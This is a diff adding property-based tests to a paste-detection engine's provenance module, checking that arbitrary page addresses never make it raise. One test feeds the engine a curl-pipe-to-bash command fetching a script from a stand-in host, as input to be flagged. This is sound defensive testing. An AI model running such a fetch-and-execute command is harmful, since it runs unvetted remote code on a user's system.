@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from app.detection import Context, Engine, Level, PasteTarget
 from app.detection.engine import default_trust_path
@@ -10,6 +12,7 @@ from app.detection.indicators import parse_url
 from app.detection.provenance import (
     forge_owner,
     page_about_software,
+    page_bars_vouching,
     registrable_domain,
     same_project,
 )
@@ -420,3 +423,29 @@ def test_an_installer_saved_to_temp_and_started_from_its_own_page_is_info(
 )  # fmt: skip
 def test_what_a_page_address_says_of_its_subject(page: str, about: bool | None) -> None:
     assert page_about_software(page) is about
+
+
+_page_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=300)
+_pages = st.one_of(_page_text, _page_text.map(lambda t: "https://" + t))
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(page=_pages, script=_pages)
+def test_a_page_address_never_makes_provenance_raise(page: str, script: str) -> None:
+    """The page address is the attacker's too: reading it never raises, whatever it holds."""
+    trust = TrustList.load(default_trust_path())
+    assert page_about_software(page) in (True, False, None)
+    page_bars_vouching(page, trust.imitation_of, trust.borrowed_names)
+    parsed = parse_url(script)
+    if parsed is not None:
+        same_project(page, parsed, never_trusted=False, shared=False, known=lambda n: False)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(page=_pages)
+def test_any_page_address_gives_a_verdict_for_a_terminal_paste(engine: Engine, page: str) -> None:
+    verdict = engine.analyze(
+        "curl -fsSL https://cdn.pixel-relay.example/install.sh | bash",
+        Context(source=page, target=TERMINAL),
+    )
+    assert verdict.level >= Level.INFO
